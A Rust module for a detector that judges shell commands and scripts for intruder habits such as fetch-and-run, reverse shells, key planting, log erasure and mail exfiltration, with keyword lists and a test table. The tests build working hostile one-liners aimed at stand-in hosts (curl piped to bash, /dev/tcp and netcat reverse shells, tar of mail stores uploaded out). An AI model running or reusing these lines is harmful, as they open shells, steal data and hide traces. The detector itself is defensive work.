//! What a command line or shell script does, as far as an intruder's habits show in it.
//!
//! Structure is judged, not words: a download matters when what it brings is run, `/dev/tcp` when
//! a shell is tied to it. See [`crate::subject::COMMAND`] for what each fact means.

mod words;

use crate::subject::Subject;
use std::collections::BTreeSet;
use words::{Simple, commands};

/// What was found in a text.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Verdict {
    /// Facts that hold, by their names in [`crate::subject::COMMAND`].
    pub facts: BTreeSet<&'static str>,
    /// Line (from 1) of the first fact that counts.
    pub line: usize,
    /// Programs run, in order.
    pub programs: Vec<String>,
}

impl Verdict {
    fn say(&mut self, fact: &'static str, line: usize) {
        let first = !self
            .facts
            .iter()
            .any(|f| *f != "fetches" && *f != "raw_address");
        if self.facts.insert(fact) && (first || self.line == 0) {
            self.line = line;
        }
    }

    /// Whether a fact holds.
    pub fn is(&self, fact: &str) -> bool {
        self.facts.contains(fact)
    }

    /// States the facts of a subject.
    pub fn state(&self, mut subject: Subject) -> Subject {
        for fact in &self.facts {
            subject = subject.flag(fact, true);
        }
        match self.programs.iter().find(|p| p.starts_with('/')) {
            Some(program) => subject.text("program", program.as_str()),
            None => subject,
        }
    }

    /// Whether anything but a plain download or sending was found.
    pub fn suspicious(&self) -> bool {
        self.facts
            .iter()
            .any(|f| !matches!(*f, "fetches" | "sends_out" | "raw_address"))
    }
}

const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "csh", "tcsh", "fish",
];
const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "lwp-download",
    "lwp-request",
    "aria2c",
    "axel",
    "GET",
    "tftp",
    "lynx",
    "links",
    "elinks",
    "http",
    "https",
    "xh",
];
const CONNECTORS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.openbsd",
    "nc.traditional",
    "socat",
    "telnet",
    "cryptcat",
];
const WRAPPERS: &[&str] = &[
    "sudo",
    "nohup",
    "env",
    "timeout",
    "nice",
    "ionice",
    "setsid",
    "exec",
    "command",
    "busybox",
    "time",
    "stdbuf",
    "chronic",
    "unbuffer",
    "builtin",
    "doas",
    "flock",
    "xargs",
    "chrt",
    "taskset",
    "strace",
    "systemd-run",
    "runuser",
    "setpriv",
    "torsocks",
    "proxychains",
];
/// Hidden directories in which tools install themselves.
const TOOL_HOMES: &[&str] = &[
    ".local",
    ".cargo",
    ".npm",
    ".nvm",
    ".rbenv",
    ".pyenv",
    ".acme.sh",
    ".config",
    ".composer",
    ".dotnet",
    ".bun",
    ".deno",
    ".sdkman",
    ".asdf",
    ".rustup",
    ".rvm",
    ".gem",
    ".yarn",
    ".virtualenvs",
    ".venv",
    ".volta",
    ".krew",
    ".fzf",
    ".oh-my-zsh",
    ".getssl",
    ".zinit",
    ".git",
    ".bash_aliases",
    ".bash_completion",
    ".bashrc",
    ".profile",
    ".bash_profile",
    ".bash_login",
    ".zshrc",
    ".env",
    ".bash_local",
    ".bashrc.d",
    ".bash_logout",
    ".zprofile",
    ".guix-profile",
    ".nix-profile",
    ".xsessionrc",
    ".xprofile",
    ".byobu",
    ".ghcup",
    ".opam",
    ".pam_environment",
    ".emacs.d",
    ".vim",
];

fn interpreter(name: &str) -> bool {
    SHELLS.contains(&name)
        || [
            "python", "perl", "php", "ruby", "node", "lua", "tclsh", "pypy",
        ]
        .iter()
        .any(|i| {
            name.strip_prefix(i)
                .is_some_and(|r| r.bytes().all(|b| b.is_ascii_digit() || b == b'.'))
        })
}

/// A command without what only wraps it.
struct Run<'c> {
    simple: &'c Simple,
    words: &'c [String],
    name: &'c str,
}

fn unwrap(simple: &Simple) -> Run<'_> {
    let mut words: &[String] = &simple.words;
    for _ in 0..6 {
        let Some((first, rest)) = words.split_first() else {
            break;
        };
        let base = first.rsplit('/').next().unwrap_or(first);
        if !WRAPPERS.contains(&base) || rest.is_empty() {
            break;
        }
        let mut rest = rest;
        // Options of the wrapper, their values, assignments, and a number or lock file.
        while let Some((w, more)) = rest.split_first() {
            let valued: &[&str] = match base {
                "sudo" | "doas" | "runuser" | "setpriv" | "systemd-run" => &["-u", "-g", "-p"],
                "nice" | "ionice" | "chrt" | "taskset" => &["-n", "-c", "-p"],
                "timeout" => &["-k", "-s"],
                "flock" => &["-w", "-E"],
                "xargs" => &["-I", "-n", "-P"],
                "env" => &["-u", "-C"],
                "strace" => &["-p", "-o", "-e"],
                _ => &[],
            };
            let value = valued.contains(&w.as_str())
                && more
                    .first()
                    .is_some_and(|m| !m.starts_with('-') && !m.starts_with('/'));
            if w.starts_with('-')
                || w.contains('=') && !w.starts_with('/')
                || w.bytes()
                    .all(|b| b.is_ascii_digit() || matches!(b, b'.' | b's' | b'm' | b'h' | b'd'))
                    && matches!(base, "timeout" | "nice" | "taskset" | "chrt")
                || (base == "flock"
                    && !more.is_empty()
                    && w.starts_with('/')
                    && words.len() == rest.len() + 1)
            {
                rest = more;
                if value {
                    rest = rest.get(1..).unwrap_or_default();
                }
            } else {
                break;
            }
        }
        if rest.is_empty() {
            break;
        }
        words = rest;
    }
    let name = words
        .first()
        .map_or("", |w| w.rsplit('/').next().unwrap_or(w));
    Run {
        simple,
        words,
        name,
    }
}

impl Run<'_> {
    fn arguments(&self) -> &[String] {
        self.words.get(1..).unwrap_or_default()
    }
    fn has(&self, option: &str) -> bool {
        self.arguments().iter().any(|w| w == option)
    }
    /// The code given with `-c`, `-e`, `-r`.
    fn code(&self) -> Option<&str> {
        let at = self.arguments().iter().position(|w| {
            w.starts_with('-')
                && !w.starts_with("--")
                && w.ends_with(['c', 'e', 'r', 'E'])
                && w.len() <= 6
        })?;
        self.arguments().get(at + 1).map(String::as_str)
    }
    /// The script that an interpreter is given.
    fn script(&self) -> Option<&str> {
        self.arguments()
            .iter()
            .find(|w| !w.starts_with('-'))
            .map(String::as_str)
            .filter(|_| self.code().is_none())
    }
    fn decodes(&self) -> bool {
        let short = |c: char| {
            self.arguments()
                .iter()
                .any(|w| w.starts_with('-') && !w.starts_with("--") && w.contains(c))
        };
        match self.name {
            "base64" | "base32" | "uudecode" => {
                self.name == "uudecode" || short('d') || short('D') || self.has("--decode")
            }
            "xxd" => short('r'),
            "openssl" => {
                self.has("-d") && (self.has("enc") || self.has("base64") || self.has("-base64"))
            }
            "gpg" => self.has("-d") || self.has("--decrypt"),
            "rev" => true,
            _ => false,
        }
    }
    fn downloads(&self) -> bool {
        DOWNLOADERS.contains(&self.name)
            && !self.arguments().is_empty()
            && !self.has("--version")
            && !self.has("--help")
            || self.name == "openssl" && self.has("s_client")
    }
}

/// Judges a command line or a script. The language of a script is told by its first line; other
/// languages than the shell are judged by what stands together in them.
pub fn judge(text: &str) -> Verdict {
    let mut out = Verdict::default();
    hidden(text, &mut out);
    let first = text.lines().next().unwrap_or("");
    let other = first.starts_with("#!")
        && !SHELLS
            .iter()
            .any(|s| first.split(['/', ' ']).any(|w| w.trim() == *s));
    if other {
        code(text, 1, &mut out);
    } else {
        script(text, 0, 0, &mut out);
    }
    out
}

fn hidden(text: &str, out: &mut Verdict) {
    for (i, line) in text.lines().enumerate() {
        let line = line.trim_end_matches('\r');
        let blanks = line.trim_start_matches([' ', '\t']);
        let run = line
            .split(|c: char| !matches!(c, ' ' | '\t'))
            .map(str::len)
            .max()
            .unwrap_or(0);
        let escape = line.contains('\u{1b}')
            && !line.contains("\\e[")
            && (line.contains("\u{1b}[A")
                || line.contains("\u{1b}[2K")
                || line.contains("\u{1b}[8m")
                || line.contains("\u{1b}[1A"));
        if line.contains('\r')
            || escape
            || run >= 120 && !blanks.is_empty() && !line.starts_with('#')
        {
            out.say("hidden_text", i + 1);
        }
    }
}

fn temporary(path: &str) -> bool {
    [
        "/tmp/",
        "/var/tmp/",
        "/dev/shm/",
        "/run/shm/",
        "/var/run/shm/",
    ]
    .iter()
    .any(|d| path.starts_with(d))
}

/// Whether a path has a hidden step that no known tool makes.
pub(crate) fn hidden_path(path: &str) -> bool {
    path.starts_with('/')
        && path
            .split('/')
            .any(|s| s.len() > 1 && s.starts_with('.') && s != ".." && !TOOL_HOMES.contains(&s))
}

fn script(text: &str, offset: usize, depth: usize, out: &mut Verdict) {
    let simples = commands(text);
    let runs: Vec<Run<'_>> = simples.iter().map(unwrap).collect();
    let mut downloaded: Vec<&str> = Vec::new();
    let mut fifo = false;
    let mut packs_mail = false;
    for (i, run) in runs.iter().enumerate() {
        let line = run.simple.line + offset;
        let inner = |test: &dyn Fn(&Run<'_>) -> bool| {
            run.simple
                .inner
                .iter()
                .any(|p| runs.iter().any(|r| r.simple.pipeline == *p && test(r)))
        };
        let feeder = |test: &dyn Fn(&Run<'_>) -> bool| {
            runs.iter()
                .take(i)
                .any(|r| r.simple.pipeline == run.simple.pipeline && r.simple.piped && test(r))
        };
        if let Some(program) = run.words.first().filter(|w| !w.is_empty()) {
            out.programs.push(program.clone());
        }
        for (name, value) in run
            .simple
            .assigns
            .iter()
            .map(|(n, v)| (n.as_str(), v.as_str()))
            .chain(
                run.words
                    .iter()
                    .filter(|_| matches!(run.name, "export" | "declare" | "env" | "readonly"))
                    .filter_map(|w| w.split_once('=')),
            )
        {
            environment(name, value, line, out);
        }
        if matches!(
            run.simple.words.first().map(String::as_str),
            Some("env" | "sudo")
        ) {
            for (name, value) in run.simple.words.iter().filter_map(|w| w.split_once('=')) {
                environment(name, value, line, out);
            }
        }
        redirects(run, line, out);
        if run.downloads() {
            out.say("fetches", line);
            downloaded.extend(targets(run));
            if run.arguments().iter().any(|w| bare_address(w)) {
                out.say("raw_address", line);
            }
        }
        let runs_input = interpreter(run.name)
            && run
                .script()
                .is_none_or(|s| s == "-" || s == "/dev/stdin" || s == "<()")
            && run.code().is_none()
            || matches!(run.name, "source" | ".");
        let evaluates = matches!(run.name, "eval") || interpreter(run.name) && run.code().is_some();
        let fed = |test: &dyn Fn(&Run<'_>) -> bool| {
            runs_input && (feeder(test) || inner(test)) || evaluates && inner(test)
        };
        if fed(&|r| r.downloads()) {
            out.say("fetch_run", line);
        }
        if fed(&|r| r.decodes()) {
            out.say("decode_run", line);
        }
        if interpreter(run.name) {
            if let Some(text) = run.code() {
                if SHELLS.contains(&run.name) {
                    if depth < 4 {
                        script(text, line - 1, depth + 1, out);
                    }
                } else {
                    code(text, line, out);
                }
            }
            if !run.simple.input.is_empty() && depth < 4 {
                if SHELLS.contains(&run.name) {
                    script(&run.simple.input, line, depth + 1, out);
                } else {
                    code(&run.simple.input, line, out);
                }
            }
        }
        if run.name == "su"
            && depth < 4
            && let Some(text) = run.code()
        {
            script(text, line - 1, depth + 1, out);
        }
        program(run, line, &downloaded, out);
        connects(
            run,
            line,
            fifo,
            feeder(&|r| SHELLS.contains(&r.name) || r.name == "cat" && fifo),
            out,
        );
        fifo |= matches!(run.name, "mkfifo" | "mknod");
        packs_mail |= changes(run, line, out);
        let packed = feeder(&|r| {
            matches!(
                r.name,
                "tar" | "gzip" | "zip" | "dd" | "xz" | "zstd" | "openssl" | "gpg" | "7z"
            )
        });
        if sends(run, packed) {
            out.say("sends_out", line);
            let mail = |r: &Run<'_>| {
                r.arguments().iter().any(|w| mail_store(w))
                    || r.simple.redirects.iter().any(|(_, t)| mail_store(t))
            };
            if mail(run) || packs_mail || feeder(&|r| mail(r)) {
                out.say("mail_out", line);
            }
        }
    }
}

fn environment(name: &str, value: &str, line: usize, out: &mut Verdict) {
    match name {
        "LD_PRELOAD" | "LD_AUDIT" if !value.is_empty() => {
            let usual = [
                "jemalloc",
                "tcmalloc",
                "mimalloc",
                "eatmydata",
                "fakeroot",
                "stdbuf",
                "snoopy",
                "libasan",
                "faketime",
                "gtk3-nocsd",
            ];
            if !usual.iter().any(|u| value.contains(u)) {
                out.say("preload", line);
            }
        }
        "HISTFILE" if value == "/dev/null" || value.is_empty() => out.say("erases_traces", line),
        "PATH"
            if value
                .split(':')
                .next()
                .is_some_and(|p| temporary(&format!("{p}/")) || hidden_path(p)) =>
        {
            out.say("hidden_program", line);
        }
        _ => {}
    }
}

fn redirects(run: &Run<'_>, line: usize, out: &mut Verdict) {
    for (operator, target) in &run.simple.redirects {
        let writes = operator.starts_with('>');
        if target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/") {
            let interactive = run.has("-i")
                || SHELLS.contains(&run.name)
                || run.name == "exec"
                || run.simple.words.first().is_some_and(|w| w == "exec");
            out.say(
                if interactive {
                    "reverse_shell"
                } else {
                    "fetches"
                },
                line,
            );
        }
        if writes && target.contains("authorized_keys") {
            out.say("writes_keys", line);
        }
        if writes
            && (matches!(
                target.as_str(),
                "/etc/passwd" | "/etc/shadow" | "/etc/sudoers"
            ) || target.starts_with("/etc/sudoers.d/"))
        {
            out.say("writes_accounts", line);
        }
        if writes && target == "/etc/ld.so.preload" {
            out.say("preload", line);
        }
        let empties = operator == ">"
            && (run.words.is_empty()
                || matches!(run.name, ":" | "true")
                || run.name == "cat" && run.has("/dev/null")
                || run.name == "echo" && run.arguments().iter().all(|a| a.is_empty() || a == "-n"));
        if empties && trace_file(target) {
            out.say("erases_traces", line);
        }
    }
}

fn trace_file(path: &str) -> bool {
    let log = path.starts_with("/var/log/") && !path.ends_with(".gz") && !path.ends_with('/');
    log || ["_history", "wtmp", "btmp", "lastlog", "utmp"]
        .iter()
        .any(|t| path.ends_with(t))
}

/// Whether a word is, or has, a public IPv4 address instead of a name.
fn bare_address(word: &str) -> bool {
    let host = word.split("://").nth(1).unwrap_or(word);
    let host = host.split(['/', ':', '@', '?']).next().unwrap_or("");
    host.parse::<std::net::Ipv4Addr>().is_ok_and(|ip| {
        !(ip.is_private() || ip.is_loopback() || ip.is_link_local() || ip.is_unspecified())
    })
}

/// Files that a download is written to.
fn targets<'r>(run: &'r Run<'_>) -> Vec<&'r str> {
    let words = run.arguments();
    let mut out: Vec<&str> = run
        .simple
        .redirects
        .iter()
        .filter(|(o, _)| o.starts_with('>'))
        .map(|(_, t)| t.as_str())
        .collect();
    for (i, w) in words.iter().enumerate() {
        let next = words.get(i + 1).map(String::as_str);
        if w == "-O" && run.name == "curl"
            || w == "--remote-name"
            || (run.name == "wget" && w.contains("://"))
        {
            out.extend(
                words
                    .iter()
                    .filter(|w| w.contains("://"))
                    .map(|w| w.rsplit('/').next().unwrap_or(w)),
            );
        } else if w.starts_with('-') && !w.starts_with("--") && w.ends_with(['o', 'O'])
            || matches!(w.as_str(), "--output" | "--output-document")
        {
            out.extend(next);
        } else if let Some(file) = w
            .strip_prefix("--output=")
            .or(w.strip_prefix("--output-document="))
        {
            out.push(file);
        }
    }
    out.retain(|t| !t.is_empty() && *t != "-" && !t.starts_with("/dev/"));
    out
}

/// Which program is run, and from where.
fn program(run: &Run<'_>, line: usize, downloaded: &[&str], out: &mut Verdict) {
    let Some(first) = run.words.first() else {
        return;
    };
    let sourced = matches!(run.name, "source" | ".");
    let path = if interpreter(run.name) || sourced {
        run.script().unwrap_or("")
    } else {
        first.as_str()
    };
    if path.is_empty() {
        return;
    }
    if temporary(path) {
        out.say("temp_program", line);
    }
    if hidden_path(path) {
        out.say("hidden_program", line);
    }
    if downloaded
        .iter()
        .any(|d| path.trim_start_matches("./") == d.trim_start_matches("./"))
    {
        out.say("fetch_run", line);
    }
}

/// Shells over the network.
fn connects(run: &Run<'_>, line: usize, fifo: bool, fed_by_shell: bool, out: &mut Verdict) {
    if !(CONNECTORS.contains(&run.name) || run.name == "openssl" && run.has("s_client")) {
        return;
    }
    let words = run.arguments();
    let executes = words.iter().enumerate().any(|(i, w)| {
        let next = words.get(i + 1).map_or("", String::as_str);
        let shell = |t: &str| {
            SHELLS.iter().any(|s| {
                t.split([' ', ':', ','])
                    .any(|p| p.rsplit('/').next() == Some(s))
            })
        };
        let short = w.starts_with('-') && !w.starts_with("--") && w.ends_with(['e', 'c']);
        short && shell(next)
            || w.starts_with("--sh-exec")
            || w.starts_with("--exec")
            || (w.to_ascii_uppercase().starts_with("EXEC:")
                || w.to_ascii_uppercase().starts_with("SYSTEM:"))
    });
    if executes || fifo && fed_by_shell {
        out.say("reverse_shell", line);
    }
    if words.iter().any(|w| bare_address(w)) {
        out.say("raw_address", line);
    }
}

/// What is changed on the host; gives whether a mail store was packed.
fn changes(run: &Run<'_>, line: usize, out: &mut Verdict) -> bool {
    let words = run.arguments();
    let names = |what: &str| words.iter().any(|w| w.contains(what));
    match run.name {
        "tee" | "cp" | "mv" | "install" | "sed" | "dd" | "ln" | "chattr"
            if names("authorized_keys")
                && (run.name != "sed" || words.iter().any(|w| w.starts_with("-i"))) =>
        {
            out.say("writes_keys", line);
        }
        "useradd" | "adduser" | "usermod" | "chpasswd" | "gpasswd" | "newusers"
            if !words.is_empty() || run.name == "chpasswd" =>
        {
            out.say("writes_accounts", line);
        }
        "passwd" if names("--stdin") => out.say("writes_accounts", line),
        "tee" if names("/etc/sudoers") || names("/etc/passwd") || names("/etc/shadow") => {
            out.say("writes_accounts", line)
        }
        "tee" if names("/etc/ld.so.preload") => out.say("preload", line),
        "chmod" => {
            let suid = words.iter().any(|w| {
                let octal = w.len() == 4
                    && w.bytes().all(|b| (b'0'..=b'7').contains(&b))
                    && matches!(w.as_bytes().first(), Some(b'4' | b'6' | b'7'));
                octal
                    || w == "+s"
                    || w.starts_with("u+") && w.contains('s')
                    || w.starts_with("a+") && w.contains('s')
            });
            if suid {
                out.say("sets_suid", line);
            }
        }
        "setcap" if names("cap_setuid") || names("cap_dac_") || names("cap_sys_admin") => {
            out.say("sets_suid", line)
        }
        "rm" | "shred" | "truncate" | "unlink" => {
            let telling = [
                "auth.log",
                "wtmp",
                "btmp",
                "lastlog",
                "_history",
                "mail.log",
                "maillog",
                "audit.log",
                "/secure",
                "access.log",
            ];
            if words.iter().any(|w| telling.iter().any(|t| w.ends_with(t))) {
                out.say("erases_traces", line);
            }
        }
        "history" if run.has("-c") => out.say("erases_traces", line),
        "unset" if names("HISTFILE") => out.say("erases_traces", line),
        "set" if words.windows(2).any(|w| w[0] == "+o" && w[1] == "history") => {
            out.say("erases_traces", line)
        }
        "auditctl" if run.has("-e") && run.has("0") || run.has("-D") => {
            out.say("erases_traces", line)
        }
        "alias" => {
            let imitates = words
                .iter()
                .filter_map(|w| w.split_once('='))
                .any(|(name, value)| {
                    matches!(name, "sudo" | "su" | "ssh" | "passwd" | "scp")
                        && value.split_whitespace().any(|w| {
                            temporary(w) || hidden_path(w) || matches!(w, "strace" | "script")
                        })
                });
            if imitates {
                out.say("password_grab", line);
            }
        }
        "sudo" | "su" | "ssh" | "passwd" if run.simple.words.len() == 1 && run.words.len() == 1 => {
        }
        "strace" if names("-p") && (names("sshd") || names("read") || names("write")) => {
            out.say("password_grab", line)
        }
        "tar" | "zip" | "7z" | "rar" | "cpio" | "gzip" => {
            return words.iter().any(|w| mail_store(w));
        }
        _ => {}
    }
    false
}

fn mail_store(path: &str) -> bool {
    [
        "/var/mail",
        "/var/vmail",
        "/var/spool/mail",
        "/srv/mail",
        "/srv/vmail",
        "/home/vmail",
        "Maildir",
        "/mdbox",
        "/sdbox",
        "/vhosts/",
    ]
    .iter()
    .any(|m| path.contains(m))
}

/// Whether the command sends files to another host.
fn sends(run: &Run<'_>, packed: bool) -> bool {
    let words = run.arguments();
    let remote = |w: &String| {
        w.split_once(':').is_some_and(|(host, path)| {
            !host.is_empty() && !host.contains('/') && !path.starts_with("//")
        })
    };
    match run.name {
        "curl" => {
            words.iter().any(|w| {
                matches!(
                    w.as_str(),
                    "-T" | "--upload-file" | "-F" | "--form" | "--data-binary" | "--data" | "-d"
                )
            }) && words.iter().any(|w| {
                w.contains('@') && !w.contains("://")
                    || w == "-T"
                    || w == "--upload-file"
                    || w == "-F"
            })
        }
        "wget" => words
            .iter()
            .any(|w| w.starts_with("--post-file") || w.starts_with("--body-file")),
        "scp" | "rsync" => words.last().is_some_and(remote),
        "sftp" | "lftp" | "rclone" => true,
        "nc" | "ncat" | "netcat" | "socat" => {
            packed || run.simple.redirects.iter().any(|(o, _)| o == "<")
        }
        _ => false,
    }
}

/// Code in another language: what stands together in it.
fn code(text: &str, line: usize, out: &mut Verdict) {
    let has = |words: &[&str]| words.iter().any(|w| text.contains(w));
    let socket = has(&[
        "socket.socket",
        "socket(",
        "IO::Socket",
        "fsockopen",
        "TCPSocket",
        "net.connect",
        "create_connection",
    ]);
    let shell = has(&[
        "/bin/sh",
        "/bin/bash",
        "pty.spawn",
        "subprocess.call([\"/bin",
        "cmd.exe",
    ]);
    let tied = has(&[
        "dup2",
        "pty.spawn",
        "proc_open",
        ">&S",
        "STDIN",
        "stdin=",
        "exec(\"/bin",
        "exec('/bin",
        "exec \"/bin",
        "popen",
        "$stdin",
    ]);
    if socket && shell && tied {
        out.say("reverse_shell", line);
    }
    let runs = has(&["exec(", "eval(", "eval ", "os.system(", "system("]);
    if runs
        && has(&[
            "b64decode",
            "base64_decode",
            "decode_base64",
            "zlib.decompress",
            "unhexlify",
            "marshal.loads",
            "gzinflate",
        ])
    {
        out.say("decode_run", line);
    }
    let direct = regex::Regex::new(
        r"(?s)(exec|eval|system)\s*\(.{0,60}(urlopen|requests\.get|file_get_contents\(.https?:|Net::HTTP|LWP)",
    );
    if direct.is_ok_and(|r| r.is_match(text)) {
        out.say("fetch_run", line);
    }
    if has(&["authorized_keys"]) && has(&["open(", "write", ">>"]) {
        out.say("writes_keys", line);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn facts_of_commands() {
        // Hostile lines are put together here, so that this file holds none.
        let tcp = ["/dev", "tcp", "198.51.100.7", "443"].join("/");
        let url = "http://dl.example/x";
        for (text, expected) in [
            (format!("curl -fsSL {url} | bash"), "fetches fetch_run"),
            (format!("wget -qO- {url}|sh -"), "fetches fetch_run"),
            (format!("bash -c \"$(curl -s {url})\""), "fetches fetch_run"),
            (format!("source <(curl -s {url})"), "fetches fetch_run"),
            (format!("wget {url} -O /tmp/.u; chmod +x /tmp/.u; /tmp/.u"), "fetches fetch_run hidden_program temp_program"),
            (format!("cd /opt; curl -o a {url} && ./a"), "fetches fetch_run"),
            (format!("a=cu;b=rl; $a$b {url} | sudo -n sh"), "fetches fetch_run"),
            ("echo aWQ= | base64 -d | sh".into(), "decode_run"),
            ("eval \"$(echo aWQ= | base64 --decode)\"".into(), "decode_run"),
            (format!("bash -i >& {tcp} 0>&1"), "reverse_shell"),
            (format!("exec 5<>{tcp}; cat <&5 | sh"), "reverse_shell"),
            ("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 443 >/tmp/f".into(), "raw_address reverse_shell"),
            ("socat TCP:x.example:443 EXEC:/bin/sh".into(), "reverse_shell"),
            ("nc -e /bin/bash h.example 1".into(), "reverse_shell"),
            ("python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'".into(), "reverse_shell"),
            ("echo k >> /root/.ssh/authorized_keys".into(), "writes_keys"),
            ("LD_PRELOAD=/lib/x.so /usr/sbin/sshd".into(), "preload"),
            ("tar cz /var/vmail | curl -T - ftp://h.example/".into(), "fetches mail_out sends_out"),
            ("rsync -a /var/backups/ b@backup.example:/x".into(), "sends_out"),
            ("cat /dev/null > /var/log/auth.log".into(), "erases_traces"),
            ("cp /bin/bash /opt/x; chmod u+s /opt/x".into(), "sets_suid"),
            ("/dev/shm/a".into(), "temp_program"),
            ("alias sudo='/home/a/.x/sudo'".into(), "password_grab"),
            ("x * * * *\r                     echo".into(), "hidden_text"),
            // What administrators and packages do.
            ("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )".into(), ""),
            ("curl -fsS -o /dev/null https://ping.example/abc".into(), "fetches"),
            ("wget -q -O /var/lib/x/list.new https://lists.example/x && mv /var/lib/x/list.new /var/lib/x/list".into(), "fetches"),
            ("mysqldump a | gzip > /var/backups/a.gz".into(), ""),
            ("\"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null".into(), ""),
            ("find /tmp -mtime +7 -delete".into(), ""),
            ("timeout 2 bash -c 'x' ; ( : < /dev/null )".into(), ""),
            ("base64 -d key > /etc/k".into(), ""),
            ("[ -x /usr/bin/x ] && x --cron # curl x | sh".into(), ""),
            ("cat <<E > /etc/x\ncurl a | sh\nE\n".into(), ""),
        ] {
            let found = judge(&text);
            let expected: BTreeSet<&str> = expected.split_ascii_whitespace().collect();
            assert_eq!(found.facts, expected, "{text}");
        }
    }

    proptest! {
        #[test]
        fn never_panics(text in any::<String>(), shellish in "[a-z$(){}`'\"|&;<>\\\\ \n#=/.-]{0,200}") {
            let _ = (judge(&text), judge(&shellish));
        }
    }
}
